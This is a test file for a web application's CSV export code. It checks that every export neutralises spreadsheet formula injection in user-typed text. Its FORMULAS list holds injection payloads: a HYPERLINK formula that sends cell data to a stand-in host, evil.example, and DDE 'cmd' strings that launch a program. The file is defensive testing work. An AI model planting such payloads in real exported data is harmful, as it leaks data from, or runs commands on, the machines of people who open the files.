import type { FastifyInstance } from 'fastify';
import { csvField, csvText, neutralise } from '../src/http/csv';
import { DEMO } from '../src/db/seed/people';
import { call, login, testApp } from './helpers';

/*
 * Issue 15, security point 7: no text a user typed starts a CSV field with = + - @ TAB or CR in any export
 * (pre-order export to AX, AX warnings, sheet report, order lines, product info, the product sheets of a
 * download package): the one CSV writer (http/csv.ts) puts an apostrophe in front.
 */

let app: FastifyInstance;
let close: () => Promise<void>;
const t: Record<string, string> = {};
const db = () => app.ctx.db;
const KEY = DEMO.customerKey;

/** texts a spreadsheet would run */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

/** the fields of a semicolon CSV (quotes as the writer writes them), BOM dropped */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const s = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(field);
      field = '';
    } else if (c === '\r' && s[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

/** the fields a spreadsheet would run as formulas */
const dangerous = (rows: string[][]) => rows.flat().filter((f) => /^[=+\-@\t\r]/.test(f) && !/^-?\d+(\.\d+)?$/.test(f));

beforeAll(async () => {
  ({ app, close } = await testApp());
  for (const u of ['admin', 'customer']) t[u] = await login(app, u);
});
afterAll(() => close());

describe('the CSV writer', () => {
  it('puts an apostrophe in front of a text that starts with = + - @ TAB or CR, and nothing else', () => {
    expect(FORMULAS.map(neutralise)).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(['a=b', 'Spring 2027', '', "'=already", '12', '-12', '-12.50', ' =1'].map(neutralise)).toEqual(['a=b', 'Spring 2027', '', "'=already", '12', '-12', '-12.50', ' =1']);
    expect(neutralise('-12a')).toBe("'-12a");
    expect([csvField(-5), csvField(null), csvField('a;b'), csvField('=a;b'), csvField('say "hi"')]).toEqual(['-5', '', '"a;b"', '"\'=a;b"', '"say ""hi"""']);
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a,b', { quoteComma: false })).toBe('a,b');
    expect(csvText([['=x', 1]], { bom: true })).toBe("\uFEFF'=x;1\r\n");
  });
});

describe('every export is safe to open in a spreadsheet', () => {
  /** an open pre-order of the demo customer with lines */
  function preOrderWithLines(): number {
    return (
      db()
        .prepare('SELECT p.id FROM preorders p WHERE p.customer_key = ? AND EXISTS (SELECT 1 FROM preorder_lines l WHERE l.preorder_id = p.id AND l.amount > 0) ORDER BY p.id LIMIT 1')
        .get(KEY) as { id: number }
    ).id;
  }

  it('the pre-order export to AX: the references a user typed keep their text after an apostrophe', async () => {
    const id = preOrderWithLines();
    db().prepare('UPDATE preorders SET order_reference = ?, internal_reference = ? WHERE id = ?').run(FORMULAS[0], FORMULAS[1], id);
    const res = await call(app, 'POST', `/api/en/PreOrder/${id}/export`, t.admin);
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.body);
    expect(dangerous(rows)).toEqual([]);
    const header = rows[0];
    expect(header[0]).toBe('H');
    expect(header[3]).toBe(`'${FORMULAS[0]}`);
    expect(header[10]).toBe(`'${FORMULAS[1]}`);
    // every line repeats the reference
    expect(rows.slice(1).every((l) => l[0] === 'L' && l[3] === `'${FORMULAS[0]}`)).toBe(true);
    // a send to AX carries the same text
    const outbox = db().prepare("SELECT payload FROM erp_outbox WHERE preorder_id = ? AND reason = 'export' ORDER BY id DESC LIMIT 1").get(id) as { payload: string };
    expect(outbox.payload).toBe(res.body);
  });

  it('AX warnings: the AX lines of a pre-order warning and the one-row CSV of another warning', async () => {
    const id = preOrderWithLines();
    db().prepare('UPDATE preorders SET order_reference = ? WHERE id = ?').run(FORMULAS[2], id);
    const customerName = (db().prepare('SELECT name FROM customers WHERE key = ?').get(KEY) as { name: string }).name;
    db().prepare('UPDATE customers SET name = ? WHERE key = ?').run(FORMULAS[3], KEY);
    try {
      const warning = (sql: string, ...args: unknown[]) => Number(db().prepare(sql).run(...args).lastInsertRowid);
      const forPreOrder = warning(
        "INSERT INTO ax_warnings (warning, type, customer_key, order_reference, process_date, preorder_id, is_ignored, resent_at) VALUES (?, 'PreOrder', ?, ?, ?, ?, 0, NULL)",
        FORMULAS[4],
        KEY,
        FORMULAS[2],
        new Date().toISOString(),
        id,
      );
      const other = warning(
        "INSERT INTO ax_warnings (warning, type, customer_key, order_reference, process_date, preorder_id, is_ignored, resent_at) VALUES (?, 'Order', ?, ?, ?, NULL, 0, NULL)",
        FORMULAS[5],
        KEY,
        FORMULAS[0],
        new Date().toISOString(),
      );
      for (const w of [forPreOrder, other]) {
        const res = await call(app, 'POST', `/api/en/axwarning/${w}/export`, t.admin);
        expect(res.statusCode).toBe(200);
        expect(dangerous(parseCsv(res.body))).toEqual([]);
      }
      const row = parseCsv((await call(app, 'POST', `/api/en/axwarning/${other}/export`, t.admin)).body)[1];
      expect(row).toEqual([String(other), `'${FORMULAS[5]}`, 'Order', expect.any(String), `'${FORMULAS[3]}`, `'${FORMULAS[0]}`, expect.any(String)]);
    } finally {
      db().prepare('UPDATE customers SET name = ? WHERE key = ?').run(customerName, KEY);
    }
  });

  it('the sheet report export', async () => {
    const sheet = db().prepare('SELECT s.id, s.collection_id FROM preorder_sheets s ORDER BY s.id LIMIT 1').get() as { id: number; collection_id: number };
    db().prepare('UPDATE collections SET name = ? WHERE id = ?').run(FORMULAS[3], sheet.collection_id);
    const res = await call(app, 'GET', `/api/en/preordersheet/exportreport?sheetId=${sheet.id}`, t.admin);
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(Buffer.from(res.json().Content, 'base64').toString('utf8'));
    expect(rows.find((r) => r[0] === 'CollectionName')).toEqual(['CollectionName', `'${FORMULAS[3]}`]);
    expect(dangerous(rows)).toEqual([]);
  });

  it('the order lines CSV and the product info CSV', async () => {
    const order = db().prepare('SELECT id FROM orders WHERE customer_key = ? ORDER BY id LIMIT 1').get(KEY) as { id: number };
    const groupIds = (db().prepare('SELECT DISTINCT p.group_id FROM order_lines ol JOIN variants v ON v.id = ol.variant_id JOIN products p ON p.id = v.product_id WHERE ol.order_id = ?').all(order.id) as { group_id: number }[]).map((g) => g.group_id);
    const rowIds = (db().prepare('SELECT id FROM download_rows WHERE customer_key = ? ORDER BY id LIMIT 3').all(KEY) as { id: number }[]).map((r) => r.id);
    const dlGroups = (db().prepare('SELECT DISTINCT p.group_id FROM download_rows d JOIN products p ON p.id = d.product_id WHERE d.id IN (SELECT value FROM json_each(?))').all(JSON.stringify(rowIds)) as { group_id: number }[]).map((g) => g.group_id);
    for (const g of [...groupIds, ...dlGroups]) db().prepare('UPDATE product_groups SET name = ?, description = ? WHERE id = ?').run(FORMULAS[0], FORMULAS[3], g);
    db().prepare('UPDATE products SET color = ? WHERE group_id IN (SELECT value FROM json_each(?))').run(FORMULAS[1], JSON.stringify([...groupIds, ...dlGroups]));

    const lines = await call(app, 'GET', `/api/en/Order/${order.id}/csv`, t.customer);
    expect(lines.statusCode).toBe(200);
    const orderRows = parseCsv(lines.body);
    expect(orderRows[1][2]).toBe(`'${FORMULAS[0]}`);
    expect(dangerous(orderRows)).toEqual([]);

    const info = await call(app, 'POST', '/api/en/dl/product-info/csv', t.customer, rowIds);
    expect(info.statusCode).toBe(200);
    const infoRows = parseCsv(info.body);
    expect(infoRows[1][1]).toBe(`'${FORMULAS[0]}`);
    expect(dangerous(infoRows)).toEqual([]);

    // the product sheets of a download package (a CSV per row inside the ZIP, stored uncompressed)
    const pack = await call(app, 'POST', '/api/en/dl/sheets', t.customer, rowIds);
    const zip = await app.inject({ method: 'GET', url: new URL(pack.json().Url).pathname });
    const text = zip.rawPayload.toString('utf8');
    const sheets = text.split('\uFEFF').slice(1).map((part) => part.slice(0, part.indexOf('\r\nPK') + 2));
    expect(sheets).toHaveLength(rowIds.length);
    for (const sheet of sheets) {
      const rows = parseCsv(sheet);
      expect(rows.find((r) => r[0] === 'Name')).toEqual(['Name', `'${FORMULAS[0]}`]);
      expect(dangerous(rows)).toEqual([]);
    }
  });
});
